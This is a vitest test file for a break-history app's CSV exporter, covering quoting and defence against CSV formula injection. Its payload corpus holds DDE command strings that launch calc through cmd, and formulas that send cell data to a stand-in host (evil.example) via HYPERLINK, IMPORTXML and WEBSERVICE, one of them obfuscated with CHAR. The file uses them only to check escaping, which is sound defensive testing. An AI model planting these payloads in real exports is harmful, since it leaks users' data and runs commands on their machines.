// The CSV export: its rows and quoting, and CSV injection: a corpus of formula payloads as imported ids, read back with a CSV parser of our own for both list separators.
import { describe, expect, it } from 'vitest';
import type { BreakRecord } from '../../core/breaks';
import { csvCell, historyToCsv } from '../../core/history-csv';
import { HISTORY_FORMAT } from '../../core/history-file';
import { parseHistoryFile } from '../../core/history-import';

/**
 * RFC 4180 as Excel reads it, written here independently of the exporter: a quote opens a quoted
 * cell only at the start of a cell, "" inside it is a quote, and what follows the closing quote up
 * to the next separator is kept as text of the same cell.
 */
function parseCsv(text: string, separator: ',' | ';'): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let started = false; // the cell has content or was quoted
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = '';
    started = false;
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && !started) {
      quoted = true;
      started = true;
    } else if (c === separator) endCell();
    else if (c === '\r' && text[i + 1] === '\n') {
      endCell();
      rows.push(row);
      row = [];
      i++;
    } else {
      cell += c;
      started = true;
    }
  }
  if (started || row.length > 0) {
    endCell();
    rows.push(row);
  }
  return rows;
}

// What a spreadsheet runs as a formula (OWASP CSV injection), and the looser lead a trimming spreadsheet would see.
const RUNS_AS_FORMULA = /^[=+\-@\t\r\0]|^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;

const PAYLOADS = [
  // OWASP's examples and the classic DDE payloads.
  '=1+1',
  '+1',
  '-1+1',
  '@SUM(1)',
  '@SUM(1+9)*cmd|\' /C calc\'!A0',
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
  '=WEBSERVICE("http://evil.example/")',
  // Leads OWASP names besides the signs, and ones a trimming or East Asian spreadsheet might read.
  '\t=1+1',
  '\r=1+1',
  '\0=1+1',
  ' =1+1',
  '\uFF1D1+1',
  // Embedded separators: the semicolon locales (de, fr, es, pt-BR) split where English does not, and back.
  'x;=1+1',
  'x;=HYPERLINK(CHAR(104)&CHAR(116)&CHAR(116)&CHAR(112)&CHAR(58)&CHAR(47)&CHAR(47)&CHAR(101)&CHAR(46)&CHAR(120)&CHAR(47)&A1)',
  'x,=1+1',
  'x;+1',
  'x,-1+1',
  'x;@SUM(1)',
  'a;b,=1;=2',
  'x;\t=1',
  // Quotes that try to close the cell early, and line breaks that try to start a row.
  '"=1+1',
  'a";=1+1;"b',
  'a",=1+1,"b',
  'a\n=1+1',
  'a\r\n=1+1',
  // Harmless ids that must come back exactly.
  'plain-id_1',
  'b0e1c4d2-8f6a-4c1e-9b7a-2d3f4e5a6b7c',
  "it's fine",
];

const AT = '2026-03-29T10:15:00+02:00';
/** The breaks an imported file with these ids gives: the CSV is fed only what the import lets through. */
function imported(ids: readonly string[]): BreakRecord[] {
  const breaks = ids.map((id, i) => ({ id, at: AT.replace('10:15:00', `10:${String(i % 60).padStart(2, '0')}:00`), kind: 'natural' }));
  const result = parseHistoryFile(JSON.stringify({ format: HISTORY_FORMAT, version: 1, breaks }));
  if (!result.ok) throw new Error(JSON.stringify(result.problems));
  return result.breaks;
}

/** A stored record as the history database holds it: `time` is the instant `at` names. */
const rec = (id: string, at: string, fields: Partial<BreakRecord> & Pick<BreakRecord, 'kind'>): BreakRecord => ({
  id,
  at,
  time: Date.parse(at),
  ...fields,
});

// Moved from history-file.test.ts with the CSV code.
describe('historyToCsv', () => {
  const HEADER = 'id,at,kind,routineId,routineName,dueId,seconds,completed,intensityBefore,intensityAfter';
  const rowsOf = (csv: string) => csv.split('\r\n').slice(1, -1);

  it('writes only the header, with CRLF, for an empty history', () => {
    expect(historyToCsv([])).toBe(`${HEADER}\r\n`);
  });

  it('writes the same rows in the same order as the JSON, with empty cells for absent fields and CRLF after every line', () => {
    const csv = historyToCsv([
      rec('r', '2026-03-29T10:15:00+02:00', { kind: 'routine', routineId: 'neck-rolls', seconds: 150, completed: true, intensityBefore: 4, intensityAfter: 0 }),
      rec('due-1', '2026-03-29T09:00:00+02:00', { kind: 'due' }),
      rec('n', '2026-03-28T17:30:00+01:00', { kind: 'natural' }),
      rec('x', '2026-03-29T10:20:00+02:00', { kind: 'routine', routineId: 'acme-reset', routineName: 'Acme reset', dueId: 'due-1', completed: true }),
    ]);
    expect(csv).toBe(
      `${HEADER}\r\n` +
        'n,2026-03-28T17:30:00+01:00,natural,,,,,,,\r\n' +
        'due-1,2026-03-29T09:00:00+02:00,due,,,,,,,\r\n' +
        'r,2026-03-29T10:15:00+02:00,routine,neck-rolls,,,150,true,4,0\r\n' +
        'x,2026-03-29T10:20:00+02:00,routine,acme-reset,Acme reset,due-1,,true,,\r\n',
    );
  });

  it.each([
    ['a comma', 'a,b', '"a,b"'],
    ['a quote', 'say "hi"', '"say ""hi"""'],
    ['a line feed', 'two\nlines', '"two\nlines"'],
    ['a carriage return', 'two\rlines', '"two\rlines"'],
    ['nothing special', 'plain-id_1', 'plain-id_1'],
  ])('quotes an id with %s', (_name, id, cell) => {
    const csv = historyToCsv([rec(id, AT, { kind: 'natural' })]);
    expect(csv).toBe(`${HEADER}\r\n${cell},${AT},natural,,,,,,,\r\n`);
  });

  it.each([
    ['=', '=HYPERLINK("http://x")', `"'=HYPERLINK(""http://x"")"`],
    ['+', '+1', "'+1"],
    ['-', '-2+3', "'-2+3"],
    ['@', '@SUM(A1)', "'@SUM(A1)"],
    ['a tab', '\t=1', "'\t=1"],
    ['= with a comma, guarded then quoted', '=1,2', `"'=1,2"`],
  ])('guards an id starting with %s against running as a formula', (_name, id, cell) => {
    expect(rowsOf(historyToCsv([rec(id, AT, { kind: 'natural' })]))[0]).toBe(`${cell},${AT},natural,,,,,,,`);
  });

  it("writes the app's own cells (a time with a negative offset, a kind, the number 0) as they are: none needs a guard", () => {
    expect(rowsOf(historyToCsv([rec('x', '2026-03-29T10:15:00-04:00', { kind: 'movement', seconds: 0 })]))).toEqual([
      'x,2026-03-29T10:15:00-04:00,movement,,,,0,,,',
    ]);
  });
});

describe('historyToCsv: CSV injection corpus', () => {
  const csv = historyToCsv(imported(PAYLOADS));

  it.each([',', ';'] as const)('no cell of any row starts a formula when split on "%s"', (separator) => {
    const cells = parseCsv(csv, separator).flat();
    expect(cells.filter((cell) => RUNS_AS_FORMULA.test(cell))).toEqual([]);
  });

  it.each(PAYLOADS.map((p, i) => [JSON.stringify(p), p, i] as const))(
    'the id %s reads back as its own cell, as written or behind one apostrophe',
    (_name, payload, i) => {
      const rows = parseCsv(csv, ',');
      const row = rows[1 + i]!;
      expect(row).toHaveLength(10);
      expect(row[0]).toBe(RUNS_AS_FORMULA.test(payload) ? `'${payload}` : payload);
      expect(row[2]).toBe('natural');
    },
  );

  it.each([
    ['x;=1+1', '"x;=1+1"'],
    ['x,=1+1', '"x,=1+1"'],
    ['a;b', '"a;b"'],
    ['=1;2', `"'=1;2"`],
  ])('quotes the id %s, which holds a separator of some locale', (id, cell) => {
    expect(historyToCsv(imported([id])).split('\r\n')[1]!.startsWith(`${cell},`)).toBe(true);
  });
});

describe('csvCell: every text cell is guarded, numbers stay numbers', () => {
  it.each([
    ['-1', "'-1"],
    ['+41 79 000 00 00', "'+41 79 000 00 00"],
    ['@home', "'@home"],
    ['true', 'true'],
    ['2026-03-29T10:15:00-04:00', '2026-03-29T10:15:00-04:00'],
  ])('text %s is written %s', (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  it.each([
    [0, '0'],
    [86_400, '86400'],
    [-1, '-1'],
  ])('the number %s is written %s, unguarded', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('writes a boolean as text', () => {
    expect([csvCell(true), csvCell(false)]).toEqual(['true', 'false']);
  });
});
